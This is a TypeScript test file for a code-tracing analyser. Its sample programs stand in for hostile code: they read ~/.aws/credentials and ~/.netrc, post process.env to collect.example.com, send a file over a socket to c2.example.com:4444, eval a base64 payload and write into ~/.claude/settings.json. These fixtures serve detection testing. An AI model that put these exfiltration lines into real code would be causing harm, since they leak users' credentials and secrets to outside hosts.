import { expect, test } from 'vitest';
import { stepLines } from '../../../../test/step-lines.ts';

test('resolves addresses, folders and what is sent through functions and classes', async () => {
  const program = `
import { readFileSync, appendFileSync as append } from 'node:fs';
import { homedir } from 'os';
import * as path from 'path';
import { fileURLToPath } from 'url';

const BASE = process.env.API_URL ?? 'https://api.example.com';
const here = path.dirname(fileURLToPath(import.meta.url));
const { SLACK_TOKEN: token } = process.env;

class Store {
  #file;
  constructor(private readonly name: string) {
    this.#file = path.join(homedir(), '.claude', 'settings.json');
  }
  save(text: string) {
    append(this.#file, text);
  }
}

async function send(route: string, body: object) {
  const response = await fetch(\`\${BASE}/\${route}\`, {
    method: 'POST',
    headers: { Authorization: 'Bearer ' + token },
    body: JSON.stringify(body),
  });
  return response.json();
}

const config = JSON.parse(readFileSync(path.join(here, '..', 'config.json'), 'utf8'));
send('notes', { text: readFileSync(process.env.HOME + '/.aws/credentials', 'utf8') }).then((answer) =>
  new Store('x').save(answer.text),
);
console.log('docs: https://docs.example.com');
`;
  expect(await stepLines('typescript', program)).toEqual([
    '7 variable name="API_URL"',
    '9 variable name="SLACK_TOKEN"',
    '17 writes path=~/.claude/settings.json content=(request 22) | <text> append=true',
    '22 request address=${API_URL}/notes | https://api.example.com/notes by="request" sent={text: (reads 31)} headers={Authorization: Bearer ${SLACK_TOKEN}}',
    '30 reads path=${here}/../config.json',
    '31 reads path=~/.aws/credentials',
    '31 variable name="HOME"',
    '34 prints content=docs: https://docs.example.com to="output"',
  ]);
});

test('follows commands with and without a shell, and those that go on', async () => {
  const program = `
const { spawn, execSync } = require('child_process');
const cp = require('node:child_process');
const args = ['-y', 'some-server'];
args.push('--port', 80);
const run = (name, ...more) => cp.execFileSync(name, [...more, ...args], { env: { ...process.env, MODE: 'x' } });
run('npx');
execSync('git push ' + 'origin main');
const child = spawn(process.execPath, [__dirname + '/worker.js'], { detached: true, stdio: 'ignore' });
child.unref();
if (process.platform === 'win32') process.exit(2);
`;
  expect(await stepLines('javascript', program)).toEqual([
    '6 command npx -y some-server --port 80 environment="MODE" x',
    '8 evaluates code=git push origin main language="shell"',
    '9 command node ${here}/worker.js background=true',
    '11 exits? code=2',
  ]);
});

test('tells code that is decoded and run, connections and services', async () => {
  const program = `
const https = require('https');
const net = require('net');
import OpenAI from 'openai';
eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString());
const request = https.request({ hostname: 'collect.example.com', path: '/in', method: 'POST' }, (response) => {
  response.on('data', (chunk) => process.stdout.write(chunk));
});
request.write(JSON.stringify(process.env));
request.end();
const socket = net.connect(4444, 'c2.example.com');
socket.write(require('fs').readFileSync(require('os').homedir() + '/.netrc'));
const client = new OpenAI({ apiKey: process.env.KEY });
export async function ask(question) {
  return client.chat.completions.create({ messages: [{ role: 'user', content: question }] });
}
`;
  expect(await stepLines('javascript', program)).toEqual([
    '5 evaluates code=(decodes 5) language="javascript"',
    '5 decodes from="base64" content=YWxlcnQoMSk=',
    '6 request address=https://collect.example.com/in by="request" sent=${*}',
    '7 prints content=(request 6) to="output"',
    '9 variable name="*"',
    '11 request address=c2.example.com:4444 by="socket" sent=(reads 12)',
    '12 reads path=~/.netrc',
    '13 variable name="KEY"',
    '15 service? service="OpenAI" hosts="api.openai.com" sent={messages: [{role: user, content: <question>}]}',
  ]);
});
